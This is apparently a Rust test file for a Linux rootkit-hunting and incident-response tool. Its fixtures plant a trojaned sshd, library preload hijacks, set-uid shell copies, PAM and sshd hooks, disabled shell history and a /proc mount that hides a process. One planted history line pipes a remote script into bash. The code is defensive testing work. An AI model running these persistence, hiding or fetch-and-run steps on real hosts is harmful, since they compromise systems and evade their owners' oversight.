//! Issue 16's places: package integrity, linker hijacks, cross-views,
//! privileged files, shell history, hooks. Fixture roots are built in temp
//! folders; live checks use processes the test starts itself.

use crate::common::{hound, json_lines, result_of, script, script_json_own_case};
use crate::require_root;
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

fn write(root: &Path, rel: &str, body: &[u8]) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, body).unwrap();
}

fn md5(b: &[u8]) -> String {
    use md5::{Digest, Md5};
    hex::encode(Md5::digest(b))
}

/// A tiny Debian-like root: one package with a binary, a changed binary,
/// a missing file, a conffile edited by the admin, and an unowned file.
fn dpkg_root() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    write(r, "usr/bin/good", b"good");
    write(r, "usr/sbin/sshd", b"trojaned");
    write(r, "etc/tool.conf", b"edited by admin");
    write(r, "etc/init.d/tool", b"#!/bin/sh\nDIR=\"/tmp/$1\"\n");
    write(
        r,
        "var/lib/dpkg/info/tool.list",
        b"/.\n/usr\n/usr/bin/good\n/usr/sbin/sshd\n/usr/bin/gone\n/etc/tool.conf\n/etc/init.d/tool\n",
    );
    let sums = format!(
        "{}  usr/bin/good\n{}  usr/sbin/sshd\n{}  usr/bin/gone\n",
        md5(b"good"),
        md5(b"original"),
        md5(b"x")
    );
    write(r, "var/lib/dpkg/info/tool.md5sums", sums.as_bytes());
    write(
        r,
        "var/lib/dpkg/info/tool.conffiles",
        b"/etc/tool.conf\n/etc/init.d/tool\n",
    );
    let status = format!(
        "Package: tool\nStatus: install ok installed\nConffiles:\n /etc/tool.conf {}\n /etc/init.d/tool {}\nDescription: x\n",
        md5(b"original conf"),
        md5(b"#!/bin/sh\nDIR=\"/tmp/$1\"\n")
    );
    write(r, "var/lib/dpkg/status", status.as_bytes());
    d
}

#[test]
fn packages_verify_finds_replaced_and_missing_files_not_conffiles() {
    let d = dpkg_root();
    let (status, v) = script_json_own_case(&format!(
        "sys::packages_verify(#{{ root: {:?} }})",
        d.path().display().to_string()
    ));
    assert_eq!(status.code(), Some(0));
    let by: Vec<(String, String)> = v
        .iter()
        .map(|m| {
            (
                m["path"].as_str().unwrap().to_string(),
                m["status"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert!(
        by.contains(&("/usr/sbin/sshd".into(), "changed".into())),
        "{v:?}"
    );
    assert!(
        by.contains(&("/usr/bin/gone".into(), "missing".into())),
        "{v:?}"
    );
    assert!(
        !by.iter()
            .any(|(p, _)| p == "/usr/bin/good" || p == "/etc/tool.conf"),
        "{v:?}"
    );
    assert_eq!(
        v.iter().find(|m| m["path"] == "/usr/sbin/sshd").unwrap()["pkg"],
        "tool"
    );
}

#[test]
fn package_status_tells_stock_from_changed() {
    let d = dpkg_root();
    let (_, v) = script_json_own_case(&format!(
        r#"sys::package_status(["/etc/init.d/tool", "/etc/tool.conf", "/usr/bin/good", "/usr/sbin/sshd", "/opt/x"], #{{ root: {:?} }})"#,
        d.path().display().to_string()
    ));
    let st: Vec<&str> = v.iter().map(|m| m["status"].as_str().unwrap()).collect();
    assert_eq!(
        st,
        ["unchanged", "changed", "unchanged", "changed", "unowned"],
        "{v:?}"
    );
    assert_eq!(v[0]["conffile"], true);
}

#[test]
fn an_rpm_system_is_unsupported_not_guessed() {
    let d = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(d.path().join("var/lib/rpm")).unwrap();
    let (_, v) = script_json_own_case(&format!(
        r#"let r = "no error"; try {{ sys::packages_verify(#{{ root: {:?} }}); }} catch (e) {{ r = e.kind; }} r"#,
        d.path().display().to_string()
    ));
    assert_eq!(v[0], "unsupported", "{v:?}");
}

#[test]
fn linker_config_hijacks() {
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "etc/ld.so.preload", b"/dev/shm/.x/libhide.so\n");
    write(
        d.path(),
        "etc/ld.so.conf",
        b"include /etc/ld.so.conf.d/*.conf\n",
    );
    write(
        d.path(),
        "etc/ld.so.conf.d/x86_64-linux-gnu.conf",
        b"/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n",
    );
    write(d.path(), "etc/ld.so.conf.d/zz.conf", b"/var/tmp/.lib\n");
    let (_, v) = script_json_own_case(&format!(
        "sys::preload_hijacks(#{{ root: {:?} }})",
        d.path().display().to_string()
    ));
    let kinds: Vec<(&str, &str)> = v
        .iter()
        .map(|h| (h["kind"].as_str().unwrap(), h["library"].as_str().unwrap()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("ld.so.preload", "/dev/shm/.x/libhide.so"),
            ("ld.so.conf", "/var/tmp/.lib")
        ],
        "{v:?}"
    );
}

#[test]
fn preloaded_and_deleted_libraries_in_live_processes() {
    // A real library, copied to a temp folder, preloaded into a sleep, then deleted.
    let lib = [
        "/usr/lib/x86_64-linux-gnu/libutil.so.1",
        "/lib/x86_64-linux-gnu/libutil.so.1",
    ]
    .into_iter()
    .find(|p| Path::new(p).exists());
    let Some(lib) = lib else {
        eprintln!("skipped: no libutil.so.1 to preload");
        return;
    };
    let d = tempfile::Builder::new()
        .prefix("hd-lib")
        .tempdir_in("/tmp")
        .unwrap();
    let copy = d.path().join("libinject.so");
    std::fs::copy(lib, &copy).unwrap();
    let mut child = std::process::Command::new("sleep")
        .arg("30")
        .env("LD_PRELOAD", &copy)
        .spawn()
        .unwrap();
    let pid = child.id() as i64;
    // Wait until the loader has mapped it.
    for _ in 0..100 {
        let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
        if maps.contains("libinject.so") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    std::fs::remove_file(&copy).unwrap();
    let (_, v) = script_json_own_case("sys::preload_hijacks()");
    let _ = child.kill();
    let _ = child.wait();
    let mine: Vec<&Value> = v.iter().filter(|h| h["pid"] == pid).collect();
    assert!(mine.iter().any(|h| h["kind"] == "environment"), "{mine:?}");
    assert!(
        mine.iter()
            .any(|h| h["kind"] == "mapped"
                && h["library"].as_str().unwrap().ends_with("libinject.so")),
        "{mine:?}"
    );
}

#[test]
fn privileged_files_name_their_package() {
    let d = dpkg_root();
    let r = d.path();
    write(r, "usr/bin/good", b"good");
    write(r, "tmp/.x/sh", b"shell");
    for (p, mode) in [("usr/bin/good", 0o4755), ("tmp/.x/sh", 0o4755)] {
        std::fs::set_permissions(r.join(p), std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let (_, v) = script_json_own_case(&format!(
        r#"sys::privileged_files(#{{ root: {:?}, paths: ["/usr", "/tmp"] }})"#,
        r.display().to_string()
    ));
    assert_eq!(v.len(), 2, "{v:?}");
    assert_eq!(v[0]["path"], "/tmp/.x/sh");
    assert_eq!(v[0]["pkg"], Value::Null);
    assert_eq!(v[1]["pkg"], "tool");
    assert_eq!(v[1]["setuid"], true);
}

/// A set-uid file on a file system mounted below a walked folder (a
/// separate /var/tmp or /home partition) and one inside an overlay, whose
/// files report their layer's device rather than the folder's: both were
/// skipped, so a dropped root shell in a lab host's /usr/local, or on a
/// host with its own /var/tmp partition, was never seen.
#[test]
fn privileged_files_cross_local_mounts_and_see_overlay_files() {
    require_root!();
    crate::require_cmd!("unshare");
    let d = tempfile::tempdir().unwrap();
    let top = d.path();
    // box: a container's root (Docker's overlay2 `merged`), not searched.
    for p in ["part", "lower", "upper", "work", "ov", "box"] {
        std::fs::create_dir(top.join(p)).unwrap();
    }
    let (_s, script) = script(
        "p.rhai",
        &format!(
            "#{{ v: sys::privileged_files(#{{ paths: [{:?}] }}).map(|f| f.path) }}",
            top.display().to_string()
        ),
    );
    let case = top.join("case");
    // A private mount namespace: the mounts go with it.
    let sh = "set -e; t=$1; \
        mount -t tmpfs none $t/part; cp /bin/true $t/part/sh; chmod 4755 $t/part/sh; \
        cp /bin/true $t/lower/esh; chmod 4755 $t/lower/esh; \
        mount -t overlay none -o lowerdir=$t/lower,upperdir=$t/upper,workdir=$t/work $t/ov; \
        mount -t tmpfs none $t/box; mkdir -p $t/box/usr/bin $t/box/etc; \
        cp /bin/true $t/box/usr/bin/su; chmod 4755 $t/box/usr/bin/su; \
        exec $2 --json --case $3 run $4";
    let out = std::process::Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", sh, "sh"])
        .arg(top)
        .arg(crate::common::hound_path())
        .arg(&case)
        .arg(&script)
        .env("NO_COLOR", "1")
        .env_remove("HOUND_CASE")
        .output()
        .unwrap();
    let v = result_of(&json_lines(&out.stdout));
    let found: Vec<&str> = v["v"]
        .as_array()
        .unwrap_or_else(|| panic!("{v}: {}", String::from_utf8_lossy(&out.stderr)))
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let t = top.display().to_string();
    for want in [
        format!("{t}/part/sh"),
        format!("{t}/ov/esh"),
        format!("{t}/lower/esh"),
    ] {
        assert!(found.contains(&want.as_str()), "{want} not in {found:?}");
    }
    assert_eq!(found.len(), 3, "each file once, none in the box: {found:?}");
}

/// An init script its package installed and dpkg says is untouched is the
/// distribution's: x11-common's names /tmp as the dropper patterns do, and
/// every Debian desktop showed it as high persistence. A changed or
/// unowned one is still read.
#[test]
fn persistence_leaves_unchanged_packaged_files_alone() {
    let d = dpkg_root();
    let r = d.path();
    write(
        r,
        "etc/init.d/updater",
        b"#!/bin/sh\nnohup /tmp/.x/upd >/dev/null 2>&1 &\n",
    );
    let root = format!("root={}", r.display());
    let (_, lines) = crate::common::run_json_own_case(["run", "persistence", "-p", &root]);
    let titles: Vec<&str> = lines.iter().filter_map(|v| v["title"].as_str()).collect();
    assert!(
        titles.iter().any(|t| t.ends_with("/etc/init.d/updater:2")),
        "{titles:?}"
    );
    assert!(
        !titles.iter().any(|t| t.contains("/etc/init.d/tool")),
        "the packaged script is stock: {titles:?}"
    );
}

/// Backdoors no indicator names, for the remediation plan: a set-uid root
/// copy of a shell (not a set-uid file that is no shell, nor a shell copy
/// without the bit), and an ld.so.preload line naming a library no package
/// owns (not one naming a packaged file). A responder trial left both on a
/// host after `hound apply`.
#[test]
fn backdoors_are_set_uid_shell_copies_and_foreign_preloads() {
    require_root!();
    let d = tempfile::tempdir().unwrap();
    let t = d.path();
    let bash = std::fs::canonicalize("/bin/bash").unwrap();
    for (name, from, mode) in [
        ("dbus-helper", bash.clone(), 0o4755),
        ("plain", bash.clone(), 0o755),
        (
            "notshell",
            std::fs::canonicalize("/bin/true").unwrap(),
            0o4755,
        ),
    ] {
        std::fs::copy(&from, t.join(name)).unwrap();
        std::fs::set_permissions(t.join(name), std::fs::Permissions::from_mode(mode)).unwrap();
    }
    write(t, "libshim.so", b"\x7fELF not really");
    let packaged = std::fs::canonicalize("/usr/bin/env").unwrap();
    let pre = t.join("ld.so.preload");
    std::fs::write(
        &pre,
        format!(
            "# admin's\n{}\n{}/libshim.so\n",
            packaged.display(),
            t.display()
        ),
    )
    .unwrap();
    let (_, v) = script_json_own_case(&format!(
        r#"import "hound/backdoors" as bd;
        #{{ s: bd::suid_copies("/", [{t:?}]).map(|x| `${{x.action}} ${{x.target.path}}`),
           p: bd::preload_lines({pre:?}, "/").map(|x| `${{x.action}} ${{x.target.path}} ${{x.target.line ?? ""}}`) }}"#,
        t = t.display().to_string(),
        pre = pre.display().to_string(),
    ));
    let r = result_of(&v);
    let t = t.display();
    assert_eq!(
        r["s"],
        serde_json::json!([format!("quarantine {t}/dbus-helper")]),
        "{r}"
    );
    assert_eq!(
        r["p"],
        serde_json::json!([
            format!("remove_line {} 3", pre.display()),
            format!("quarantine {t}/libshim.so "),
        ]),
        "{r}"
    );
}

#[test]
fn file_capabilities_are_decoded() {
    require_root!();
    crate::require_cmd!("setcap");
    let d = tempfile::tempdir().unwrap();
    write(d.path(), "usr/bin/pinger", b"x");
    std::fs::set_permissions(
        d.path().join("usr/bin/pinger"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let ok = std::process::Command::new("setcap")
        .arg("cap_net_raw,cap_setuid+ep")
        .arg(d.path().join("usr/bin/pinger"))
        .status()
        .unwrap();
    if !ok.success() {
        eprintln!("skipped: this file system does not take capabilities");
        return;
    }
    let (_, v) = script_json_own_case(&format!(
        r#"sys::privileged_files(#{{ root: {:?}, paths: ["/usr"] }})"#,
        d.path().display().to_string()
    ));
    assert_eq!(
        v[0]["capabilities"],
        serde_json::json!(["cap_setuid+ep", "cap_net_raw+ep"])
    );
}

#[test]
fn shell_history_tampering_and_fetch_and_run() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    write(r, "etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n");
    write(
        r,
        "root/.bash_history",
        b"ls\ncurl -s http://203.0.113.9/x.sh | bash\ncd /etc\n",
    );
    write(r, "home/alice/.bashrc", b"# stock\nexport HISTSIZE=0\n");
    std::fs::create_dir_all(r.join("home/bob")).unwrap();
    std::os::unix::fs::symlink("/dev/null", r.join("home/bob/.bash_history")).unwrap();
    let (_, v) = script_json_own_case(&format!(
        "sys::shell_history(#{{ root: {:?} }})",
        r.display().to_string()
    ));
    let got: Vec<(&str, &str)> = v
        .iter()
        .map(|h| (h["user"].as_str().unwrap(), h["kind"].as_str().unwrap()))
        .collect();
    assert_eq!(
        got,
        [
            ("root", "command"),
            ("alice", "disabled"),
            ("bob", "tampered")
        ],
        "{v:?}"
    );
    assert_eq!(v[0]["line"], 2);
}

#[test]
fn a_mount_over_proc_pid_is_seen() {
    require_root!();
    crate::require_cmd!("unshare");
    let hound = crate::common::hound_path();
    let (_d, s) = script(
        "x.rhai",
        "sys::crossview().filter(|x| x.kind == \"proc_mount\").len()",
    );
    // In a private mount namespace: hide a sleeping process by mounting
    // an empty folder over its /proc entry, as userland rootkits do.
    let empty = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(format!(
            "sleep 30 & p=$!; mount --bind {} /proc/$p && {} --json run {}; r=$?; kill $p; exit $r",
            empty.path().display(),
            hound.display(),
            s.display()
        ))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let v = result_of(&json_lines(&out.stdout));
    assert_eq!(v, 1, "{text} {}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn rootkit_hunt_groups_findings_and_leaves_stock_files_alone() {
    let d = dpkg_root();
    let r = d.path();
    write(r, "etc/ld.so.preload", b"/dev/shm/.x/libhide.so\n");
    write(
        r,
        "etc/pam.d/sshd",
        b"auth optional pam_exec.so quiet /usr/local/bin/log.sh\n@include common-auth\n",
    );
    write(
        r,
        "etc/ssh/sshd_config",
        b"AuthorizedKeysCommand /tmp/.k/keys %u\nAuthorizedKeysCommandUser root\n",
    );
    write(r, "etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    let case = tempfile::tempdir().unwrap();
    let out = hound()
        .arg("--json")
        .arg("--case")
        .arg(case.path().join("c"))
        .args(["run", "rootkit", "-p"])
        .arg(format!("root={}", r.display()))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let titles: Vec<String> = json_lines(&out.stdout)
        .into_iter()
        .filter(|v| v["severity"].as_str().is_some_and(|s| s != "info"))
        .map(|v| {
            format!(
                "{} {}",
                v["severity"].as_str().unwrap(),
                v["title"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        titles.contains(&"critical Package file replaced".to_string()),
        "{titles:?}"
    );
    assert!(
        titles.contains(&"critical Library preloaded into every program".to_string()),
        "{titles:?}"
    );
    assert!(
        titles.iter().any(|t| t.contains("hook in pam")),
        "{titles:?}"
    );
    assert!(
        titles.iter().any(|t| t.contains("hook in sshd")),
        "{titles:?}"
    );
    // The stock init script names /tmp, but dpkg says it is untouched.
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains("init.d/tool"),
        "{titles:?}"
    );
}

#[test]
fn listeners_and_bound_sockets_are_not_hidden_ports() {
    require_root!();
    crate::require_cmd!("ip");
    let ns = hound::host::netns::Netns::create_unique("hd-port").unwrap();
    let hound = crate::common::hound_path();
    let (_d, s) = script(
        "p.rhai",
        "sys::crossview().filter(|x| x.kind == \"hidden_port\").len()",
    );
    // A listener and a socket that is only bound (netlink lists it, /proc/net
    // does not): neither is a hidden port.
    let out = std::process::Command::new("ip")
        .args(["netns", "exec", ns.name(), "python3", "-c"])
        .arg(format!(
            "import socket,subprocess\nl=socket.socket(); l.bind(('127.0.0.1', 4444)); l.listen()\n\
             b=socket.socket(); b.bind(('0.0.0.0', 5555))\n\
             r=subprocess.run([{:?}, '--json', 'run', {:?}], capture_output=True, text=True)\n\
             print(r.stdout)",
            hound.display().to_string(),
            s.display().to_string()
        ))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let v = result_of(&json_lines(&out.stdout));
    assert_eq!(v, 0, "{text} {}", String::from_utf8_lossy(&out.stderr));
}
